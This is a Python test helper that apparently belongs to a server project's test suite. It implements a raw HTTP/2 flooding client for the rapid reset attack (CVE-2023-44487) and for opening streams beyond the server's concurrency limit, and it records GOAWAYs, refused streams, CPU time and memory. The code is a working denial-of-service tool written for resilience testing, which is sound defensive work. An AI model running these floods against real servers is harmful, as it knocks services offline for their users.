"""A hostile HTTP/2 client, frame by frame (hyperframe and hpack, which h2 and hypercorn use),
for the stream attacks of issue 27: rapid reset (CVE-2023-44487: HEADERS then RST_STREAM, over
and over) and more open streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS. It does not
go through h2's state machine on purpose: h2 refuses to exceed the peer's stream limit, and an
attacker does not ask. Every flood is bounded in count and in time."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
REFUSED_STREAM = 0x7
# GOAWAY error codes a server may use to throw a flooding client out.
ENHANCE_YOUR_CALM = 0xB
# A gRPC message of zero bytes: the compressed flag and a zero length.
EMPTY_GRPC_MESSAGE = b"\x00\x00\x00\x00\x00"


@dataclass
class Seen:
    """What the server sent back during a flood."""

    goaway: int | None = None  # its error code, once one arrived
    goaway_last_stream: int = 0
    closed: bool = False  # EOF or reset of the TCP connection (what was sent before it is read)
    resets: Counter[int] = field(default_factory=Counter)  # RST_STREAM by error code
    headers: int = 0  # HEADERS frames (response heads and trailers)
    max_concurrent_streams: int | None = None  # from the server's SETTINGS, if it sent one


@dataclass
class FloodResult:
    sent: int  # streams opened
    seconds: float
    seen: Seen


class H2Flooder:
    """One raw HTTP/2 (h2c, prior knowledge) connection."""

    def __init__(self, host: str, port: int, authority: str | None = None) -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = authority or f"{host}:{port}"
        self.encoder = Encoder()
        self.seen = Seen()
        self._buffer = b""
        self._next_stream = 1
        # A large window so the server never waits on us to send its answers.
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
        window = WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535)
        self.sock.sendall(PREFACE + settings.serialize() + window.serialize())
        self.sock.setblocking(False)

    def close(self) -> None:
        self.sock.close()

    def _headers(self, path: str, method: str, content_type: str | None, extra: tuple[tuple[str, str], ...]) -> bytes:
        pairs = [(":method", method), (":scheme", "http"), (":authority", self.authority), (":path", path)]
        if content_type is not None:
            pairs.append(("content-type", content_type))
            if content_type.startswith("application/grpc"):
                pairs.append(("te", "trailers"))
        pairs.extend(extra)
        return bytes(self.encoder.encode(pairs))

    def stream_frames(
        self,
        path: str,
        *,
        method: str = "POST",
        content_type: str | None = "application/grpc",
        body: bytes | None = EMPTY_GRPC_MESSAGE,
        end: bool = True,
        reset: bool = True,
        extra: tuple[tuple[str, str], ...] = (),
    ) -> bytes:
        """The bytes of one new stream: HEADERS, the body if any (the request ends with the
        body, or with HEADERS if there is none, unless `end` is False: then it never ends),
        and a RST_STREAM(CANCEL) right after when `reset`. Returns them for batching."""
        stream = self._next_stream
        self._next_stream += 2
        flags = {"END_HEADERS"} if body is not None or not end else {"END_HEADERS", "END_STREAM"}
        out = HeadersFrame(stream, data=self._headers(path, method, content_type, extra), flags=flags).serialize()
        if body is not None:
            out += DataFrame(stream, data=body, flags={"END_STREAM"} if end else set()).serialize()
        if reset:
            out += RstStreamFrame(stream, error_code=CANCEL).serialize()
        return out

    def send(self, data: bytes, timeout: float = 5.0) -> bool:
        """Send all of `data`, reading the server's frames meanwhile; False once the
        connection is closed or the server sent GOAWAY."""
        view = memoryview(data)
        deadline = time.monotonic() + timeout
        while view and not self.gone:
            try:
                sent = self.sock.send(view)
                view = view[sent:]
            except BlockingIOError:
                if time.monotonic() > deadline:
                    return False  # the server stopped reading: held, not served
                self.read(0.01)
            except OSError:
                break  # closed by the server: what it sent before is still to be read
        self.read(0)
        return not self.gone and not view

    @property
    def gone(self) -> bool:
        return self.seen.closed or self.seen.goaway is not None

    def read(self, wait: float) -> None:
        """Take what the server sent within `wait` seconds; answer its SETTINGS and PINGs."""
        deadline = time.monotonic() + wait
        while not self.seen.closed:
            try:
                chunk = self.sock.recv(1 << 20)
            except BlockingIOError:
                if time.monotonic() >= deadline:
                    return
                time.sleep(0.002)
                continue
            except OSError:
                self.seen.closed = True
                return
            if not chunk:
                self.seen.closed = True
                return
            self._buffer += chunk
            self._parse()

    def _parse(self) -> None:
        while len(self._buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._buffer[:9]))
            if len(self._buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self._buffer[9 : 9 + length]))
            self._buffer = self._buffer[9 + length :]
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        reply = b""
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            limit = frame.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
            if limit is not None:
                self.seen.max_concurrent_streams = limit
            reply = SettingsFrame(0, flags={"ACK"}).serialize()
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            reply = PingFrame(0, opaque_data=frame.opaque_data, flags={"ACK"}).serialize()
        elif isinstance(frame, GoAwayFrame):
            self.seen.goaway = frame.error_code
            self.seen.goaway_last_stream = frame.last_stream_id
        elif isinstance(frame, RstStreamFrame):
            self.seen.resets[frame.error_code] += 1
        elif isinstance(frame, HeadersFrame):
            self.seen.headers += 1
        if reply:
            with contextlib.suppress(OSError):
                self.sock.settimeout(5)
                self.sock.sendall(reply)
                self.sock.setblocking(False)


@contextlib.contextmanager
def flooder(host: str, port: int) -> Iterator[H2Flooder]:
    connection = H2Flooder(host, port)
    try:
        connection.read(0.2)  # the server's SETTINGS
        yield connection
    finally:
        connection.close()


def rapid_reset(connection: H2Flooder, path: str, streams: int, seconds: float, batch: int = 100) -> FloodResult:
    """HEADERS (+ an empty message) then RST_STREAM(CANCEL), `batch` streams per write, until
    `streams` were sent, `seconds` passed, or the server closed or GOAWAYed the connection."""
    return _flood(connection, streams, seconds, lambda: connection.stream_frames(path, reset=True), batch)


def open_streams(connection: H2Flooder, path: str, streams: int, seconds: float, batch: int = 100) -> FloodResult:
    """Streams whose request never ends (HEADERS without END_STREAM, no body), never reset:
    each holds whatever the server keeps for an open stream."""
    return _flood(
        connection, streams, seconds, lambda: connection.stream_frames(path, reset=False, body=None, end=False), batch
    )


def _flood(connection: H2Flooder, streams: int, seconds: float, one: Callable[[], bytes], batch: int) -> FloodResult:
    started = time.monotonic()
    sent = 0
    while sent < streams and time.monotonic() - started < seconds:
        if not connection.send(b"".join(one() for _ in range(batch))):
            break
        sent += batch
    connection.read(0.3)
    return FloodResult(sent, time.monotonic() - started, connection.seen)


@dataclass
class Summary:
    """A flood over one or more connections (one after the other), as `python -m` prints it."""

    sent: int = 0
    connections: int = 0
    refused: int = 0  # streams the server refused (RST_STREAM REFUSED_STREAM)
    goaways: dict[str, int] = field(default_factory=dict)  # connections by GOAWAY code ("none")
    last_streams: list[int] = field(default_factory=list)  # each GOAWAY's last stream ID
    max_concurrent_streams: int | None = None  # what the server's SETTINGS said


def flood(mode: str, host: str, port: int, path: str, streams: int, seconds: float, reconnect: bool) -> Summary:
    """`streams` on one connection; with `reconnect`, a new connection each time one ends,
    until `seconds` have passed."""
    attack = rapid_reset if mode == "reset" else open_streams
    deadline = time.monotonic() + seconds
    summary = Summary()
    while True:
        with flooder(host, port) as connection:
            result = attack(connection, path, streams, max(0.1, deadline - time.monotonic()))
        seen = result.seen
        summary.sent += result.sent
        summary.connections += 1
        summary.refused += seen.resets[REFUSED_STREAM]
        summary.max_concurrent_streams = seen.max_concurrent_streams
        code = "none" if seen.goaway is None else str(seen.goaway)
        summary.goaways[code] = summary.goaways.get(code, 0) + 1
        if seen.goaway is not None:
            summary.last_streams.append(seen.goaway_last_stream)
        if not reconnect or time.monotonic() >= deadline:
            return summary


def cpu_seconds(pid: int) -> float:
    """User plus system CPU time of a process, from /proc (clock ticks)."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def main() -> None:
    """python -m tests.h2_flood reset|open HOST PORT PATH STREAMS SECONDS [reconnect]: a flood
    from a process of its own (in the test's process it would compete with the test's own
    client for the GIL), its Summary as one JSON line."""
    mode, host, port, path, streams, seconds = sys.argv[1:7]
    summary = flood(mode, host, int(port), path, int(streams), float(seconds), sys.argv[7:8] == ["reconnect"])
    print(json.dumps(dataclasses.asdict(summary)))


if __name__ == "__main__":
    main()
